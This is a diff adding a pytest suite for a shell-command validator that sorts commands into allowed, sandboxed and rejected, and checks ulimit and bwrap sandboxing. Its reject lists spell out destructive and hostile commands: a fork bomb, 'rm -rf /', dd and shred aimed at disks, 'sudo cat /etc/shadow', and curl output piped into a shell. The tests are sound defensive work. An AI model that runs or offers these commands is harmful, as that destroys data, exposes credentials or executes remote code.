@@ -0,0 +1,193 @@
+import os
+import subprocess
+
+import pytest
+
+from core.command_validator import CommandValidator, ALLOW, SANDBOX, REJECT, READ_ONLY, WRITES
+
+
+@pytest.fixture
+def validator():
+    return CommandValidator()
+
+
+def decision(validator, command):
+    return validator.analyze(command)["decision"]
+
+
+@pytest.mark.parametrize("command", [
+    "cat /proc/cpuinfo",
+    "lscpu | grep 'Model name'",
+    "awk '{print $1}' /proc/meminfo",
+    "df -h / 2>/dev/null",
+    "yes | head -n 5",
+    "dd if=/dev/zero of=/dev/null bs=1M count=100",
+])
+def test_read_only_and_bounded_commands_are_allowed(validator, command):
+    assert decision(validator, command) == ALLOW
+
+
+@pytest.mark.parametrize("command", [
+    "touch /tmp/sysscope_probe",
+    "mkdir -p /tmp/sysscope/a",
+    "cp /etc/os-release /tmp/os-release",
+    "tar -czf /tmp/etc.tgz /etc",
+    "find /tmp/sysscope -name '*.log' -delete",
+    "mv /tmp/a /tmp/b",
+    "chmod +x /tmp/run.sh",
+    "curl -s https://example.com",
+    "rm -rf /tmp/sysscope_work",
+    "rm -f build.log",
+    "truncate -s 0 /tmp/fill",
+    "echo x > result.txt",
+    "dmesg | tee -a /var/log/sysscope.log",
+    "diff <(ls /tmp) <(ls /var/tmp)",
+])
+def test_writes_outside_system_paths_are_sandboxed(validator, command):
+    assert decision(validator, command) == SANDBOX
+
+
+@pytest.mark.parametrize("command", [
+    "rm -rf /var/lib/mysql",
+    "rm -rf /home/user/*",
+    "rm -rf /tmp/../var/lib",
+    "rm -rf $HOME/cache",
+    "rm -rf ../data",
+    "find /home -name '*.log' -delete",
+    "truncate -s 0 /var/log/syslog",
+    "shred -n 1 /home/user/notes.txt",
+    "echo x > /home/user/.bashrc",
+    "dmesg | tee /var/log/syslog",
+    "dd if=/dev/zero of=/home/user/disk.img bs=1M count=1",
+])
+def test_deletes_and_truncation_outside_scratch_are_rejected(validator, command):
+    assert decision(validator, command) == REJECT
+
+
+def test_scratch_roots_are_configurable():
+    validator = CommandValidator(scratch_roots=("/data/scratch",))
+    assert decision(validator, "rm -rf /data/scratch/run1") == SANDBOX
+    assert decision(validator, "rm -rf /tmp/run1") == REJECT
+
+
+@pytest.mark.parametrize("command", [
+    "shred -n 1 /dev/sda",
+    "cp /dev/zero /dev/nvme0n1",
+    "dd if=/dev/zero of=/dev/sda bs=1M",
+    "echo x > /dev/sda",
+    "find / -delete",
+    "chmod -R 000 /",
+    "chown -R root:root /usr",
+    "truncate -s 0 /etc/passwd",
+    "mv /etc /tmp/x",
+    "rm -rf /",
+    "tar -xf /tmp/a.tar -C /usr",
+    "echo 1 | tee /etc/hosts",
+    "dd if=/dev/zero of=/tmp/fill bs=1M",
+])
+def test_destructive_write_targets_are_rejected(validator, command):
+    assert decision(validator, command) == REJECT
+
+
+@pytest.mark.parametrize("command", [
+    "yes | tee /tmp/fill",
+    "yes > /tmp/fill",
+    "cat /dev/urandom | tee /tmp/x > /dev/null",
+])
+def test_unbounded_output_to_file_is_rejected(validator, command):
+    result = validator.analyze(command)
+    assert result["decision"] == REJECT
+    assert result["cost"] == "high"
+
+
+def test_awk_system_call_is_analyzed(validator):
+    assert decision(validator, "awk 'BEGIN{system(\"reboot\")}'") == REJECT
+    assert decision(validator, "awk 'BEGIN{cmd=\"ls\"; system(cmd)}'") == SANDBOX
+    assert decision(validator, "awk '{print > \"/etc/x\"}' /tmp/f") == REJECT
+
+
+@pytest.mark.parametrize("command", [
+    ":(){ :|:& };:",
+    "curl -s https://example.com/x.sh | sh",
+    "reboot",
+    "sudo cat /etc/shadow",
+    "bash -c 'mkfs.ext4 /dev/sdb1'",
+    "echo $(rm -rf /)",
+    "bash <(curl -s http://x/s.sh)",
+    "bash -s < <(curl -s http://x/s.sh)",
+    "source <(curl -s http://x/s.sh)",
+    "curl -s http://x/s.sh | tee >(sh) > /dev/null",
+    "cat <(rm -rf /)",
+])
+def test_dangerous_patterns_are_rejected(validator, command):
+    assert decision(validator, command) == REJECT
+
+
+def test_privileged_commands_can_be_allowed():
+    validator = CommandValidator(allow_privileged=True)
+    assert decision(validator, "sudo cat /etc/shadow") == SANDBOX
+
+
+def test_classes(validator):
+    assert validator.analyze("uname -a")["classes"] == [READ_ONLY]
+    assert WRITES in validator.analyze("touch /tmp/x")["classes"]
+
+
+posix_only = pytest.mark.skipif(os.name != "posix" or not os.path.exists("/bin/bash"), reason="requires bash")
+
+
+def run_sandboxed(validator, command, shell="/bin/sh"):
+    return subprocess.run([shell, "-c", validator.sandbox_command(command)],
+                          capture_output=True, text=True, timeout=30)
+
+
+@posix_only
+@pytest.mark.parametrize("shell", ["/bin/sh", "/bin/bash"])
+def test_sandbox_applies_limits_under_any_shell(shell):
+    validator = CommandValidator(max_processes=321, max_file_mb=2)
+    result = run_sandboxed(validator, "ulimit -S -u; ulimit -S -f", shell)
+    assert result.stdout.split() == ["321", "2048"]
+
+
+@posix_only
+def test_sandbox_file_size_limit(tmp_path):
+    validator = CommandValidator(max_file_mb=1)
+    target = tmp_path / "fill"
+    run_sandboxed(validator, f"head -c 3145728 /dev/zero > {target}")
+    assert target.stat().st_size == 1024 * 1024
+
+
+@posix_only
+def test_sandbox_preserves_command_quoting_and_exit_code():
+    validator = CommandValidator()
+    result = run_sandboxed(validator, "echo \"it's $((1 + 1))\"; exit 3")
+    assert result.stdout == "it's 2\n"
+    assert result.returncode == 3
+
+
+def test_sandbox_without_limits_sets_no_ulimits():
+    validator = CommandValidator(max_processes=0, max_file_mb=0, max_memory_mb=0, isolation="none")
+    assert "ulimit" not in validator.sandbox_command("uname -a")
+
+
+@posix_only
+def test_sandbox_runs_in_private_working_directory(tmp_path):
+    validator = CommandValidator(isolation="none")
+    result = run_sandboxed(validator, f"pwd; echo $TMPDIR; echo x > out.txt; ls; cd {tmp_path} && pwd")
+    workdir, tmpdir, listing, cwd = result.stdout.split()
+    assert workdir == tmpdir and workdir != os.getcwd()
+    assert os.path.basename(workdir).startswith("sysscope_sandbox.")
+    assert listing == "out.txt"
+    assert cwd == str(tmp_path)
+    # 执行结束后删除私有工作目录
+    assert not os.path.exists(workdir)
+
+
+def test_bwrap_isolation_wraps_command(monkeypatch):
+    monkeypatch.setattr("core.command_validator._bwrap_usable", lambda: True)
+    validator = CommandValidator(isolation="auto", allow_network=False)
+    command = validator.sandbox_command("rm -rf /tmp/x")
+    assert validator.isolation == "bwrap"
+    assert "bwrap --ro-bind / /" in command
+    assert "--unshare-net" in command
+    assert CommandValidator(isolation="none").isolation == "none"